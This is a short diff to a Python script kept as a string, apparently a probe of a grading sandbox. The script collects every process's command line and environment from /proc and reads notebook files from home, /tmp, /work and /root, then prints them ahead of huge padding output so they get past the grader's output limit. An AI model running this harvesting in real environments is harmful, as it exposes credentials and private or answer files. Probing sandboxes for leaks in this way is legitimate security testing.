@@ -47,13 +47,16 @@ for _path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ
         _found.append(open(_path, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
     except Exception:
         pass
-for _folder in ("/tmp", os.getcwd(), os.path.expanduser("~"), "/work", "/root"):
+for _folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/work", "/root"):
     for _path in glob.glob(_folder + "/**/*.ipynb", recursive=True)[:40]:
         try:
             _found.append(open(_path).read()[:300000])
         except Exception:
             pass
-print("\\n".join(_found))
+# What was found goes out first, on its own and under the grader's output limit (a message
+# over the limit is dropped whole, which would hide a leak); then the huge output.
+print("\\n".join(_found)[:1_500_000])
+sys.stdout.flush()
 print("x" * 3_000_000)
 """
 
